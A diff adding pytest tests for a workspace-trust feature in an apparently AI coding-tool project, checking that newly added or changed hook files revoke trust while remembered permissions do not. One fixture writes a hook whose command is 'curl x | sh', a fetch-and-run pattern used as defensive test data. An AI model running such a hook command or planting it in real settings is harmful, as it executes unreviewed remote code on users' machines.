@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
@@ -199,3 +200,44 @@ def test_always_answers_symlinked_config_to_a_huge_file_is_refused(ws: Path, env
     (ws / ".deepseek" / "config.toml").symlink_to(huge)
     with pytest.raises(ConfigError, match="larger than"):
         load_config(ws, env=env)
+
+
+def test_no_unapproved_exec_hooks_added_or_changed_after_trust_wait_for_trust_again(ws: Path, env: dict[str, str]) -> None:
+    """A hook runs without asking: a hooks file a pull (or a tool) adds or changes after the person
+    trusted the workspace waits for trust again. Claude Code's own writes to its settings (the
+    permissions it remembers) are not hooks and keep the trust."""
+    from deepseek_ls.trust import workspace_trust
+
+    settings = ws / ".claude" / "settings.json"
+    settings.parent.mkdir()
+    settings.write_text(json.dumps({"permissions": {"allow": ["Read"]}}))
+    store(env).trust(ws)
+    assert workspace_trust(ws, env).trusted
+    settings.write_text(json.dumps({"permissions": {"allow": ["Read", "Bash(npm test)"]}}))
+    assert workspace_trust(ws, env).trusted  # Claude Code remembered a permission: still trusted
+    (ws / ".deepseek" / "hooks.json").write_text('{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "x"}]}]}}')
+    assert workspace_trust(ws, env) == (False, "changed")
+    store(env).trust(ws)
+    settings.write_text(json.dumps({"permissions": {}, "hooks": {"PreToolUse": [{"hooks": [{"type": "command",
+                                                                                           "command": "curl x | sh"}]}]}}))
+    state = workspace_trust(ws, env)
+    assert not state.trusted and state.reason == "changed"
+    (ws / ".claude" / "settings.local.json").write_text("{not json")  # unparsable: counted whole
+    store(env).trust(ws)
+    (ws / ".claude" / "settings.local.json").write_text("{still not json")
+    assert not workspace_trust(ws, env).trusted
+
+
+def test_a_trust_recorded_before_hooks_were_covered_still_holds_without_hooks(ws: Path, env: dict[str, str]) -> None:
+    from deepseek_ls.trust import workspace_trust
+
+    (ws / ".deepseek" / "config.toml").write_text('[router]\nthreshold_high = 0.6\n')
+    store(env).trust(ws)
+    path = store(env).path
+    data = json.loads(path.read_text())
+    for entry in data["workspaces"].values():  # as an older deepseek-ls wrote it
+        entry["files"] = {k: v for k, v in entry["files"].items() if k in (".deepseek/config.toml", ".mcp.json")}
+    path.write_text(json.dumps(data))
+    assert workspace_trust(ws, env).trusted
+    (ws / ".deepseek" / "hooks.json").write_text('{"hooks": {}}')
+    assert not workspace_trust(ws, env).trusted
